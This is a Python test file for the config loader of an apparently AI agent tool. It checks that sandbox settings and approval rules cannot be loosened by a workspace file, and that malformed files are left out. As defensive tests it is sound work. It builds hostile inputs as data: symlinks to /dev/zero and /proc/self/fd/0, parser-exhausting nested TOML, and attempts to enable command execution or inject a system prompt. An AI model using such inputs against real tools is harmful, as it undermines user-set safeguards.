def test_the_sandbox_is_on_without_network_by_default_and_set_by_the_user(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    tools = load_config(workspace=workspace, environ=environ).tools
    assert (tools.sandbox, tools.sandbox_network, tools.mcp_sandbox) == (
        "workspace-write",
        False,
        "off",
    )
    user_file(home, '[tools]\nsandbox = "off"\nsandbox_network = true\n')
    options = {"tools": {"sandboxReadable": ["~/.cargo"], "mcpSandbox": "read-only"}}
    tools = load_config(workspace=workspace, environ=environ, init_options=options).tools
    assert (tools.sandbox, tools.sandbox_network) == ("off", True)
    assert (tools.sandbox_readable, tools.mcp_sandbox) == (["~/.cargo"], "read-only")
    with pytest.raises(ConfigError) as raised:
        TetherConfig().overlay({"tools": {"sandbox": "none"}}, source="initializationOptions")
    assert raised.value.data["key"] == "tools.sandbox"


def test_a_workspace_file_may_make_approval_stricter_but_not_turn_it_off(
    workspace: Path, environ: dict[str, str]
) -> None:
    workspace_file(workspace, '[tools]\napproval = "deny"\n')
    assert load_config(workspace=workspace, environ=environ).tools.approval == "deny"

    workspace_file(workspace, '[tools]\napproval = "auto"\n')
    with pytest.raises(ConfigError) as raised:
        load_config(workspace=workspace, environ=environ)
    assert raised.value.data["key"] == "tools.approval"
    assert "without asking" in str(raised.value)


def test_a_workspace_file_may_not_loosen_the_users_approval_or_tool_list(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    user_file(home, '[tools]\napproval = "deny"\nenabled = ["read_file", "list_files"]\n')
    workspace_file(workspace, '[tools]\nenabled = ["read_file"]\n')
    assert load_config(workspace=workspace, environ=environ).tools.enabled == ["read_file"]

    workspace_file(workspace, '[tools]\napproval = "ask"\n')
    with pytest.raises(ConfigError) as raised:
        load_config(workspace=workspace, environ=environ)
    assert raised.value.data["key"] == "tools.approval"

    workspace_file(workspace, '[tools]\nenabled = ["read_file", "run_command"]\n')
    with pytest.raises(ConfigError) as raised:
        load_config(workspace=workspace, environ=environ)
    assert raised.value.data["key"] == "tools.enabled"
    assert "run_command" in str(raised.value)


@pytest.mark.parametrize(
    ("section", "key"),
    [("lsp", "apply_edit_timeout"), ("acp", "request_timeout"), ("mcp", "start_timeout")],
)
def test_a_workspace_file_may_shorten_a_wait_on_a_client_or_server_but_not_lengthen_it(
    home: Path, workspace: Path, environ: dict[str, str], section: str, key: str
) -> None:
    user_file(home, f"[{section}]\n{key} = 20\n")
    workspace_file(workspace, f"[{section}]\n{key} = 5\n")
    config = load_config(workspace=workspace, environ=environ)
    assert getattr(getattr(config, section), key) == 5

    workspace_file(workspace, f"[{section}]\n{key} = 21\n")
    with pytest.raises(ConfigError) as raised:
        load_config(workspace=workspace, environ=environ)
    assert config_error(raised) == (f"{section}.{key}", str(workspace_config_path(workspace)))
    options = {section: {to_camel(key): 600}}  # the editor's settings may lengthen it
    config = load_config(workspace=None, environ=environ, init_options=options)
    assert getattr(getattr(config, section), key) == 600


def test_mcp_servers_come_from_the_user_file_and_the_editor_settings(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    user_file(
        home,
        '[[tools.mcp_servers]]\nname = "gh"\ncommand = "gh-mcp"\nargs = ["stdio"]\n'
        'env = { GH_TOKEN = "t" }\n',
    )
    config = load_config(workspace=workspace, environ=environ)
    [server] = config.tools.mcp_servers
    assert (server.name, server.command, server.args, server.env) == (
        "gh",
        "gh-mcp",
        ["stdio"],
        {"GH_TOKEN": "t"},
    )
    options = {"tools": {"mcpServers": [{"name": "docs", "url": "http://127.0.0.1:1/mcp"}]}}
    config = load_config(workspace=workspace, environ=environ, init_options=options)
    assert [(s.name, s.url, s.timeout) for s in config.tools.mcp_servers] == [
        ("docs", "http://127.0.0.1:1/mcp", 120.0)
    ]


@pytest.mark.parametrize(
    ("server", "key"),
    [
        ({"name": "bad name", "command": "x"}, "tools.mcp_servers.0.name"),
        ({"name": "a" * 33, "command": "x"}, "tools.mcp_servers.0.name"),
        ({"name": "x"}, "tools.mcp_servers.0"),
        ({"name": "x", "command": "c", "url": "http://h/mcp"}, "tools.mcp_servers.0"),
        ({"name": "x", "url": "ftp://h/mcp"}, "tools.mcp_servers.0"),
        ({"name": "x", "url": "http://h/mcp", "args": ["a"]}, "tools.mcp_servers.0"),
        ({"name": "x", "command": "c", "headers": {"A": "b"}}, "tools.mcp_servers.0"),
        ({"name": "x", "command": "c", "timeout": 0}, "tools.mcp_servers.0.timeout"),
        ({"name": "x", "command": "c", "shell": True}, "tools.mcp_servers.0.shell"),
    ],
)
def test_an_invalid_mcp_server_is_a_config_error_naming_its_key(
    server: dict[str, Any], key: str
) -> None:
    with pytest.raises(ConfigError) as raised:
        TetherConfig().overlay({"tools": {"mcpServers": [server]}}, source="initializationOptions")
    assert raised.value.code == ErrorCode.CONFIG_ERROR
    assert raised.value.data == {"key": key, "source": "initializationOptions"}


def test_two_mcp_servers_may_not_share_a_name() -> None:
    servers = [{"name": "a", "command": "x"}, {"name": "a", "url": "http://h/mcp"}]
    with pytest.raises(ConfigError, match="two MCP servers are named 'a'"):
        TetherConfig().overlay({"tools": {"mcpServers": servers}})


def test_an_invalid_mcp_server_env_value_is_not_echoed() -> None:
    server = {"name": "x", "command": "c", "env": {"GH_PAT": 12345678}}
    with pytest.raises(ConfigError) as raised:
        TetherConfig().overlay({"tools": {"mcpServers": [server]}})
    assert raised.value.data["key"] == "tools.mcp_servers.0.env.GH_PAT"
    assert "12345678" not in str(raised.value)


# --- sessions -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("ttl", "seconds"), [("30d", 30 * 86400), ("12h", 43200), ("90m", 5400), ("45s", 45)]
)
def test_ttl_durations(ttl: str, seconds: int) -> None:
    config = TetherConfig().overlay({"sessions": {"ttl": ttl}})
    assert config.sessions.ttl_delta() == timedelta(seconds=seconds)


@pytest.mark.parametrize("ttl", ["30", "1w", "-3d", "0s", "d", "1.5h", ""])
def test_an_invalid_ttl_is_a_config_error_naming_the_key(ttl: str) -> None:
    with pytest.raises(ConfigError) as excinfo:
        TetherConfig().overlay({"sessions": {"ttl": ttl}}, source="initializationOptions")
    assert excinfo.value.data["key"] == "sessions.ttl"
    assert "30d" in excinfo.value.message


def test_the_run_lease_lasts_ten_seconds_unless_set() -> None:
    assert TetherConfig().sessions.lease_delta() == timedelta(seconds=10)
    config = TetherConfig().overlay({"sessions": {"lease": "2s"}})
    assert config.sessions.lease_delta() == timedelta(seconds=2)


@pytest.mark.parametrize("lease", ["0s", "2h", "10", "1.5s"])
def test_a_lease_out_of_range_is_a_config_error_naming_the_key(lease: str) -> None:
    with pytest.raises(ConfigError) as excinfo:
        TetherConfig().overlay({"sessions": {"lease": lease}}, source="initializationOptions")
    assert excinfo.value.data["key"] == "sessions.lease"


def test_an_unknown_store_is_a_config_error() -> None:
    with pytest.raises(ConfigError) as excinfo:
        TetherConfig().overlay({"sessions": {"store": "redis"}})
    assert excinfo.value.data["key"] == "sessions.store"


def test_the_sqlite_store_defaults_to_the_xdg_data_directory(tmp_path: Path) -> None:
    sessions = TetherConfig().overlay({"sessions": {"store": "sqlite"}}).sessions
    xdg = {"XDG_DATA_HOME": str(tmp_path / "data"), "HOME": str(tmp_path / "home")}
    assert sessions.url(xdg) == f"sqlite:///{tmp_path}/data/tether/sessions.db"
    home = {"HOME": str(tmp_path / "home")}
    assert sessions.url(home) == f"sqlite:///{tmp_path}/home/.local/share/tether/sessions.db"
    chosen = TetherConfig().overlay({"sessions": {"store": "sqlite", "path": "/x/s.db"}})
    assert chosen.sessions.url(home) == "sqlite:////x/s.db"
    url = "postgresql+psycopg://me@db/tether"
    assert TetherConfig().overlay({"sessions": {"store": url}}).sessions.url(home) == url
    assert TetherConfig().sessions.url(home) is None


# --- a workspace file that is not a small plain TOML file ---------------------------------------

DEEP = 50_000


def _link(target: str) -> Any:
    return lambda path: path.symlink_to(target)


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (_link("/dev/zero"), "outside"),
        (_link("/dev/stdin"), "outside"),
        (_link("/proc/self/fd/0"), "outside"),
        (lambda path: os.mkfifo(path), "not_regular"),
        (lambda path: path.mkdir(), "not_regular"),
        (lambda path: path.write_text("# " + "x" * MAX_CONFIG_BYTES), "too_large"),
        (lambda path: path.write_text("a = " + "[" * DEEP + "]" * DEEP + "\n"), "too_deep"),
        (lambda path: path.write_text("a = " + "{b=" * DEEP + "1" + "}" * DEEP), "too_deep"),
        (lambda path: path.write_text("a." * DEEP + "b = 1\n"), "too_deep"),
        (lambda path: path.write_text("[" + "a." * 40 + "b]\n"), "too_deep"),
    ],
    ids=[
        "/dev/zero",
        "/dev/stdin",
        "/proc/self/fd/0",
        "fifo",
        "directory",
        "huge",
        "deep arrays",
        "deep inline tables",
        "long dotted key",
        "deep table header",
    ],
)
def test_a_workspace_file_that_is_no_small_plain_toml_file_is_left_out_with_its_reason(
    workspace: Path, environ: dict[str, str], make: Any, reason: str
) -> None:
    path = workspace / ".tether" / "config.toml"
    path.parent.mkdir()
    make(path)
    reported: list[ConfigError] = []
    config = load_config(workspace=workspace, environ=environ, on_workspace_error=reported.append)
    assert config == TetherConfig()
    [error] = reported
    assert error.code == ErrorCode.CONFIG_ERROR
    assert error.data == {"key": None, "source": str(path), "reason": reason}


def test_a_workspace_file_linking_to_a_file_outside_the_workspace_is_left_out(
    workspace: Path, environ: dict[str, str], tmp_path: Path
) -> None:
    elsewhere = write(tmp_path / "elsewhere.toml", '[kernel]\nsystem_prompt = "not yours"\n')
    (workspace / ".tether").mkdir()
    (workspace / ".tether" / "config.toml").symlink_to(elsewhere)
    reported: list[ConfigError] = []
    config = load_config(workspace=workspace, environ=environ, on_workspace_error=reported.append)
    assert config.kernel.system_prompt is None
    assert [error.data["reason"] for error in reported] == ["outside"]


def test_a_workspace_file_linking_to_a_file_of_the_workspace_is_read(
    workspace: Path, environ: dict[str, str]
) -> None:
    write(workspace / "config" / "tether.toml", "[kernel]\nmax_iterations = 4\n")
    (workspace / ".tether").mkdir()
    (workspace / ".tether" / "config.toml").symlink_to("../config/tether.toml")
    assert load_config(workspace=workspace, environ=environ).kernel.max_iterations == 4


def test_brackets_in_strings_and_comments_do_not_count_as_nesting(
    workspace: Path, environ: dict[str, str]
) -> None:
    brackets = "[" * 100 + "{" * 100
    text = "\n".join(
        [
            f"# {brackets}",
            "[kernel]",
            f'system_prompt = """{brackets} \\""" still inside """',
            "[provider]",
            f"model = '''{brackets}'''''",
            "[context]",
            f'compaction = "drop" # {brackets}',
            f"[tools] # {brackets}",
            f"enabled = ['{brackets}', \"a.b.c\"]",
        ]
    )
    workspace_file(workspace, text + "\n")
    config = load_config(workspace=workspace, environ=environ)
    assert config.kernel.system_prompt == f'{brackets} """ still inside '
    assert config.provider.model == f"{brackets}''"
    assert config.tools.enabled == [brackets, "a.b.c"]


NEAR = MAX_CONFIG_DEPTH - 2


@pytest.mark.parametrize(
    "text",
    [
        "a = " + "[" * NEAR + "]" * NEAR,
        "a = " + "{b=" * NEAR + "1" + "}" * NEAR,
        "[" + ".".join("a" * NEAR) + "]\nb = 1\n",
        ".".join("a" * NEAR) + " = 1\n",
        "[[tools.mcp_servers]]\nenv = {A = {B = [[1.5, 2.5]]}}\n",
    ],
    ids=["arrays", "inline tables", "table header", "dotted key", "a usual depth"],
)
def test_nesting_near_the_limit_is_parsed(text: str) -> None:
    assert _parse_toml(text, "test")


def test_the_user_file_is_read_the_same_way(home: Path, environ: dict[str, str]) -> None:
    path = home / ".config" / "tether" / "config.toml"
    path.parent.mkdir(parents=True)
    os.mkfifo(path)
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=None, environ=environ)
    assert config_error(excinfo) == (None, str(path))
    assert excinfo.value.data["reason"] == "not_regular"


# --- telemetry ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("enabled", "environ", "traced"),
    [
        (None, {}, False),
        (None, {"OTEL_EXPORTER_OTLP_ENDPOINT": "http://collector:4318"}, True),
        (None, {"OTEL_EXPORTER_OTLP_TRACES_ENDPOINT": "http://collector:4318/v1/traces"}, True),
        (None, {"OTEL_TRACES_EXPORTER": "console"}, True),
        (None, {"OTEL_TRACES_EXPORTER": "none", "OTEL_EXPORTER_OTLP_ENDPOINT": "http://c"}, False),
        (None, {"OTEL_SDK_DISABLED": "true", "OTEL_TRACES_EXPORTER": "otlp"}, False),
        (None, {"OTEL_EXPORTER_OTLP_ENDPOINT": " "}, False),
        (True, {}, True),
        (False, {"OTEL_TRACES_EXPORTER": "otlp"}, False),
    ],
)
def test_runs_are_traced_as_telemetry_enabled_says_else_as_the_otel_variables_do(
    enabled: bool | None, environ: dict[str, str], traced: bool
) -> None:
    assert TelemetryConfig(enabled=enabled).tracing(environ) is traced
